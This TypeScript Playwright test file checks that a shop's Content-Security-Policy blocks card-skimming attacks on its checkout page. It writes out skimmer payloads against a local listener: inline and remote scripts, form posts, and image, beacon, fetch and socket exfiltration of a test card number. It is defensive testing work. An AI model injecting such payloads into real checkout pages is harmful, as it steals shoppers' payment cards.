import { expect, type Page } from 'playwright/test'
import { Buyer } from '../../e2e/fixtures/buyer'
import { openListener } from '../../e2e/fixtures/listener'
import { hostOf, rawRequest } from '../../e2e/fixtures/raw-http'
import type { Attack } from './attack'

/** HTML that an attacker injects into the checkout page. `elsewhere` is the host that would receive card numbers. */
const written: Record<string, (elsewhere: string) => string> = {
  'an inline script': (elsewhere) =>
    `<script>window.skimmed=1;fetch('${elsewhere}/inline')</script><img src="x" onerror="window.skimmed=1;fetch('${elsewhere}/inline')">`,
  'a script from elsewhere': (elsewhere) =>
    `<script src="${elsewhere}/skimmer.js"></script><link rel="stylesheet" href="${elsewhere}/style.css"><base href="${elsewhere}/">`,
}

/** Actions of the injected code, by name. */
const actions: Record<string, (page: Page, elsewhere: string) => Promise<unknown>> = {
  'the form sent elsewhere': (page, elsewhere) =>
    page.evaluate((url) => {
      const form = document.createElement('form')
      form.action = `${url}/form`
      form.method = 'post'
      form.innerHTML = '<input name="card" value="4242424242424242">'
      document.body.append(form)
      form.submit()
    }, elsewhere),
  'a picture, a beacon, a fetch and a socket': (page, elsewhere) =>
    page.evaluate(async (url) => {
      new Image().src = `${url}/picture?card=4242`
      navigator.sendBeacon(`${url}/beacon`, 'card=4242')
      await fetch(`${url}/fetch`, { method: 'POST', mode: 'no-cors', body: 'card=4242' }).catch(() => null)
      try {
        new WebSocket(`${url.replace('http', 'ws')}/socket`)
        new EventSource(`${url}/events`)
      } catch {
        // Blocked immediately.
      }
    }, elsewhere),
  'a form for cards in a frame': (page, elsewhere) =>
    page.evaluate((url) => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<iframe src="${url}/cards"></iframe><object data="${url}/object"></object><embed src="${url}/embed">`,
      )
      const frame = document.createElement('iframe')
      frame.srcdoc = `<form action="${url}/frame"><input name="card"></form><script>parent.skimmed=1</script>`
      document.body.append(frame)
    }, elsewhere),
}

export const skimmers: Attack = {
  id: 'S46',
  attack: 'skimmer test in checkout: inline, remote script, form-action, img/beacon exfil, fake card form',
  expected: '5/5 blocked by CSP in a real browser; inventory test fails the build',
  asvs: '3.4.3',
  run: async ({ testApp, browser, openShop }) => {
    const shop = await openShop()
    const elsewhere = await openListener('window.skimmed=1', 'text/javascript')
    const context = await browser.newContext()
    const kept: string[] = []
    await context.exposeFunction('tellHit', (hit: string) => kept.push(hit))
    await context.addInitScript(() => {
      addEventListener('securitypolicyviolation', (event) => {
        Reflect.get(window, 'tellHit')(event.violatedDirective)
      })
    })
    const page = await context.newPage()
    try {
      const buyer = new Buyer(page, shop)
      await buyer.openPage('/listing/corner-tee')
      await buyer.addToCart()
      await buyer.goToCart()
      await buyer.startCheckout()
      const address = page.url()
      expect(kept, 'before any attack').toEqual([])
      const isBlocked = async (name: string, act: () => Promise<unknown>) => {
        const before = kept.length
        await act()
        await expect.poll(() => kept.length, name).toBeGreaterThan(before)
        expect(await page.evaluate(() => 'skimmed' in window), name).toBe(false)
        expect(page.url(), name).toBe(address)
      }
      for (const [name, drill] of Object.entries(actions)) await isBlocked(name, () => drill(page, elsewhere.url))
      for (const [name, markup] of Object.entries(written)) {
        await page.route(address, async (route) => {
          const { cookie = '' } = await route.request().allHeaders()
          const asked = { host: hostOf(testApp, shop.slug), path: new URL(address).pathname, headers: { cookie } }
          const { status, headers, body } = await rawRequest(testApp, asked)
          const policy = String(headers['content-security-policy'])
          expect([status, policy.includes('nonce-')]).toEqual([200, true])
          await route.fulfill({
            status,
            headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': policy },
            body: body.replace(/<body[^>]*>/, (tag) => tag + markup(elsewhere.url)),
          })
        })
        await isBlocked(name, () => page.reload())
        await page.unroute(address)
      }
      expect(elsewhere.visits).toEqual([])
      return { observed: `5 of 5 blocked, ${kept.length} policy violation reports, 0 outbound calls` }
    } finally {
      await context.close()
      elsewhere.stop()
    }
  },
}
